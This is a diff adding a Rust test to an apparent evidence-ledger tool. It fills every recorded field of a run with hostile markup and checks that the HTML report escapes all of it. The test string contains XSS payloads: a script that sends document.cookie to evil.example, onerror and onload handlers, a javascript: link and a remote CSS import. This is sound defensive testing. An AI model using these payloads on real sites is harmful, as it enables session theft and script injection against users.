@@ -1,0 +1,85 @@
+//! A run that is hostile in every text, and the report of it: text, and never more.
+
+use tracekeep_core::json::Json;
+use tracekeep_evidence::account::Account;
+use tracekeep_evidence::bundle::{Contents, Kind};
+use tracekeep_evidence::report::{Cover, report};
+
+use super::ledger::{Ledger, incident_claims};
+
+/// What would run, load or lead somewhere if it were markup.
+const HOSTILE: &str = r#"</title></table></svg><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)><svg onload=alert(2)><a href=\"javascript:alert(3)\">x</a><style>@import url(//evil.example/x.css)</style>\u202e&lt;\u0000"#;
+const RUN: &str = "<script>alert('run')</script>";
+
+/// The ledger, and a bundle of its run.
+pub(crate) fn hostile() -> (Ledger, Contents) {
+    let mut ledger = Ledger::new();
+    let body = |op: &str, more: &str| format!(r#"{{"op":"{op}","run_id":"{RUN}",{more}}}"#);
+    let start = format!(
+        r#""agent_id":"{HOSTILE}","goal":"{HOSTILE}","policy_snapshot_id":"{HOSTILE}","started_at":"2026-11-20T10:00:00.000000000Z""#
+    );
+    ledger.push("run_started", RUN, &body("start_run", &start));
+    let step = format!(
+        r#""cost_cents":"1","duration_ms":10,"index":0,"occurred_at":"2026-11-20T10:00:00.000000000Z","params":{{"{HOSTILE}":"{HOSTILE}"}},
+        "skill_name":"{HOSTILE}","status":"failure""#
+    );
+    ledger.push("step", RUN, &body("record_step", &step));
+    let trace = |id: &str, parent: &str| {
+        format!(
+            r#""id":"{id}","parent_id":"{parent}","trace_type":{{"chosen":"{HOSTILE}","options":[],"question":"{HOSTILE}","type":"Decision"}}"#
+        )
+    };
+    ledger.push("trace", RUN, &body("record_trace", &trace("a", "b")));
+    ledger.push("trace", RUN, &body("record_trace", &trace("b", "a")));
+    ledger.push("verdict", RUN, &body("reconcile", &format!(r#""verdict":{{"verdict":"{HOSTILE}"}}"#)));
+    let incident = format!(
+        r#""actual":"{HOSTILE}","created_at":"2026-11-20T10:00:01.000000000Z","incident_id":"inc-1","policy_id":"{HOSTILE}","severity":"high",
+        "summary":"{HOSTILE}","threshold":{{"{HOSTILE}":1}},"title":"{HOSTILE}","violation_step_index":0,"violation_type":"{HOSTILE}""#
+    );
+    ledger.push("incident", RUN, &body("open_incident", &incident));
+    let seal = format!(
+        r#""completed_at":"2026-11-20T10:00:02.000000000Z","status":"failed","termination_reason":"{HOSTILE}",
+        "violation":{{"policy_id":"{HOSTILE}","reason":"{HOSTILE}","step_index":0}}"#
+    );
+    ledger.push("sealed", RUN, &body("complete_run", &seal));
+    let mut contents = ledger.contents(Kind::Evidence, ledger.entries.clone());
+    let json = Json::parse(&format!(r#"{{"{HOSTILE}":["{HOSTILE}",null,1.5,true]}}"#)).unwrap();
+    contents.comparison = Some(json.clone());
+    contents.controls = Some(json);
+    let words = Json::parse(&format!("\"{HOSTILE}\"")).unwrap().value().as_str().unwrap().to_owned();
+    contents.tenant_id = words.clone();
+    contents.exported_by = words.clone();
+    contents.incident = Some(incident_claims());
+    let account = Account::of(&contents.records, Some(RUN), Some("inc-1"));
+    let checkpoint = ledger.checkpoint(ledger.size());
+    let cover = Cover {
+        kind: "evidence",
+        ledger: ledger.id,
+        tenant_id: &words,
+        exported_by: &words,
+        size: checkpoint.size,
+        root: checkpoint.root,
+        created_at: contents.created_at,
+        forced: true,
+        entries: ledger.size(),
+        withheld: std::slice::from_ref(&words),
+    };
+    contents.report = report(&cover, &account, None);
+    (ledger, contents)
+}
+
+#[test]
+fn recorded_text_is_never_markup() {
+    let (_, contents) = hostile();
+    let page = &contents.report;
+    let own = "!doctype html head meta title style body h1 h2 p br table thead tbody tr th td ul li svg text rect";
+    for tag in page.split('<').skip(1) {
+        let name: String = tag.chars().take_while(|c| c.is_ascii_alphanumeric() || "!/".contains(*c)).collect();
+        assert!(own.split(' ').any(|own| own == name.trim_start_matches('/')), "{name}");
+        let tag = tag.split('>').next().unwrap();
+        assert!(["href", " src", "onerror", "onload", "url("].iter().all(|word| !tag.contains(word)), "{tag}");
+    }
+    assert!(page.contains("default-src 'none'; style-src 'unsafe-inline'"));
+    assert!(page.contains("&lt;script&gt;"));
+    assert!(!page.contains('\u{202e}') && !page.contains('\0'));
+}
